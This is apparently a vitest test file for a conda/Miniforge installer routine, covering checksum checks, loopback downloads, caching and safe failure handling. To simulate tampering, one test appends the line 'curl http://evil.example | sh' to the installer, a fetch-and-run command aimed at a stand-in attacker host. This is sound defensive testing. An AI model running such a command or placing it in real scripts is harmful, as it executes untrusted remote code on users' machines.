// Installing conda into CONDA_DIR with a stand-in Miniforge installer: checksum checked (a
// tampered one refused), downloads from a loopback HTTP server, never over an existing dir.
import { createHash } from "node:crypto";
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ensureEnv } from "../../src/env/ensure.js";
import { defaultInstallerUrl } from "../../src/env/installer.js";
import type { EnvSpec } from "../../src/env/spec.js";
import { LocalHost } from "../../src/ssh/local-host.js";
import { warnSkip } from "../testbed/hooks.js";
import {
  cleanupTmp,
  makeInstaller,
  makeReadOnly,
  rejection,
  standinCalls,
  tmp,
} from "./helpers.js";

afterAll(cleanupTmp);
const host = new LocalHost();
const sha = (p: string): string => createHash("sha256").update(readFileSync(p)).digest("hex");

function setup(): { dir: string; condaDir: string; spec: EnvSpec; installer: string } {
  const dir = tmp();
  const file = join(dir, "env.yml");
  writeFileSync(file, "dependencies:\n  - python\n");
  const installer = makeInstaller(join(dir, "Miniforge3-Linux-x86_64.sh"));
  const condaDir = join(dir, "opt", "miniforge3");
  return {
    dir,
    condaDir,
    installer,
    spec: { backend: "conda", name: "p1", condaDir, file, installConda: true },
  };
}

let server: Server;
let base = "";
const served = new Map<string, Buffer>();
let requests: string[] = [];

beforeAll(async () => {
  server = createServer((req, res) => {
    requests.push(req.url ?? "");
    const body = served.get(req.url ?? "");
    if (!body) {
      res.writeHead(404).end("not found");
      return;
    }
    res.writeHead(200, { "content-length": body.length }).end(body);
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => new Promise<void>((r) => server.close(() => r())));

describe("installing conda (stand-in installer)", { timeout: 60_000 }, () => {
  it("installs from a local installer file whose SHA-256 matches, then creates the env with the new conda", async () => {
    const { condaDir, spec, installer } = setup();
    const progress: string[] = [];
    const res = await ensureEnv(
      host,
      { ...spec, installer: { file: installer, sha256: sha(installer) } },
      { onProgress: (p) => progress.push(`${p.phase}: ${p.message}`) },
    );
    expect(res.tool).toEqual({ kind: "conda", path: join(condaDir, "bin/conda"), installed: true });
    expect(res.action).toBe("created");
    expect(res.prefix).toBe(join(condaDir, "envs/p1"));
    expect(progress).toContain(
      `install: installing conda into ${condaDir} (bash installer -b -p ${condaDir})`,
    );
    expect(progress).toContain(`install: PREFIX=${condaDir}`);
    expect(standinCalls(condaDir).map((c) => c.argv.slice(0, 2))).toEqual([["env", "create"]]);
    // the next ensure finds the installed conda and skips everything
    expect(
      (await ensureEnv(host, { ...spec, installer: { file: installer, sha256: sha(installer) } }))
        .action,
    ).toBe("unchanged");
  });

  it("refuses a tampered installer (checksum mismatch): nothing runs, CONDA_DIR is not created", async () => {
    const { condaDir, spec, installer } = setup();
    const good = sha(installer);
    writeFileSync(installer, `${readFileSync(installer, "utf8")}\ncurl http://evil.example | sh\n`);
    const err = await rejection(
      ensureEnv(host, { ...spec, installer: { file: installer, sha256: good } }),
    );
    expect(err.code).toBe("ENV_FAILED");
    expect(err.message).toContain(
      `does not match its checksum (expected sha256 ${good}, got ${sha(installer)}); refusing to run it`,
    );
    expect(existsSync(condaDir)).toBe(false);
  });

  it("downloads from a URL with the .sha256 published beside it, and caches by checksum", async () => {
    const { condaDir, spec, installer, dir } = setup();
    const body = readFileSync(installer);
    served.set("/Miniforge3.sh", body);
    served.set("/Miniforge3.sh.sha256", Buffer.from(`${sha(installer)}  Miniforge3.sh\n`));
    requests = [];
    const cacheDir = join(dir, "cache");
    const res = await ensureEnv(
      host,
      { ...spec, installer: { url: `${base}/Miniforge3.sh` } },
      { cacheDir },
    );
    expect(res.tool?.installed).toBe(true);
    expect(requests).toEqual(["/Miniforge3.sh.sha256", "/Miniforge3.sh"]);
    expect(readdirSync(cacheDir)).toEqual([`${sha(installer)}.sh`]);
    expect(existsSync(join(condaDir, "bin/conda"))).toBe(true);
  });

  it("refuses a download whose bytes do not match the published checksum, and keeps nothing of it", async () => {
    const { condaDir, spec, dir } = setup();
    served.set("/tampered.sh", Buffer.from("#!/bin/bash\necho pwned\n"));
    served.set("/tampered.sh.sha256", Buffer.from(`${"ab".repeat(32)}  tampered.sh\n`));
    const cacheDir = join(dir, "cache");
    const err = await rejection(
      ensureEnv(host, { ...spec, installer: { url: `${base}/tampered.sh` } }, { cacheDir }),
    );
    expect(err.code).toBe("ENV_FAILED");
    expect(err.message).toContain("does not match its checksum");
    expect(readdirSync(cacheDir)).toEqual([]);
    expect(existsSync(condaDir)).toBe(false);
  });

  it("a failed download (HTTP 404) is ENV_FAILED naming the URL", async () => {
    const { spec } = setup();
    const err = await rejection(
      ensureEnv(host, {
        ...spec,
        installer: { url: `${base}/missing.sh`, sha256: "0".repeat(64) },
      }),
    );
    expect(err.code).toBe("ENV_FAILED");
    expect(err.message).toBe(
      `Cannot download the conda installer from ${base}/missing.sh: HTTP 404 Not Found`,
    );
  });

  it("never installs over (or deletes) an existing CONDA_DIR that has no conda", async () => {
    const { condaDir, spec, installer } = setup();
    mkdirSync(condaDir, { recursive: true });
    writeFileSync(join(condaDir, "user-data.txt"), "precious");
    const err = await rejection(ensureEnv(host, { ...spec, installer: { file: installer } }));
    expect(err.code).toBe("ENV_FAILED");
    expect(err.message).toContain("exists but has no conda in it");
    expect(err.message).toContain("Nothing was deleted");
    expect(readdirSync(condaDir)).toEqual(["user-data.txt"]);
  });

  it("an installer that fails midway: ENV_FAILED, the partial install is moved aside (not deleted), nothing recorded", async () => {
    const { condaDir, spec, dir } = setup();
    const bad = makeInstaller(join(dir, "bad.sh"), { fail: true });
    const err = await rejection(ensureEnv(host, { ...spec, installer: { file: bad } }));
    expect(err.code).toBe("ENV_FAILED");
    expect(err.message).toContain("the payload is truncated");
    expect(err.message).toMatch(/The partial install was moved to .*miniforge3\.failed-/);
    expect(existsSync(condaDir)).toBe(false);
    expect(readdirSync(join(dir, "opt")).some((n) => n.startsWith("miniforge3.failed-"))).toBe(
      true,
    );
    // a retry with a good installer starts clean
    const good = makeInstaller(join(dir, "good.sh"));
    expect((await ensureEnv(host, { ...spec, installer: { file: good } })).action).toBe("created");
  });

  it("an unwritable parent of CONDA_DIR is a clear error before anything is downloaded", async (ctx) => {
    const { spec, installer, dir } = setup();
    const ro = join(dir, "readonly");
    const undo = makeReadOnly(ro);
    if (!undo)
      return ctx.skip(warnSkip("unwritable CONDA_DIR test", "cannot mount a read-only tmpfs here"));
    try {
      const err = await rejection(
        ensureEnv(host, {
          ...spec,
          condaDir: join(ro, "miniforge3"),
          installer: { file: installer },
        }),
      );
      expect(err.code).toBe("ENV_FAILED");
      expect(err.message).toMatch(
        new RegExp(
          `^Cannot install conda into CONDA_DIR=${ro}/miniforge3 on local: its parent directory ${ro} is not writable by \\w+`,
        ),
      );
    } finally {
      undo();
    }
  });

  it("the default URL is Miniforge's latest for the host's OS and machine", () => {
    expect(defaultInstallerUrl("Linux x86_64")).toBe(
      "https://github.com/conda-forge/miniforge/releases/latest/download/Miniforge3-Linux-x86_64.sh",
    );
    expect(defaultInstallerUrl("Linux aarch64")).toBe(
      "https://github.com/conda-forge/miniforge/releases/latest/download/Miniforge3-Linux-aarch64.sh",
    );
    expect(defaultInstallerUrl("Darwin arm64")).toBe(
      "https://github.com/conda-forge/miniforge/releases/latest/download/Miniforge3-MacOSX-arm64.sh",
    );
  });
});
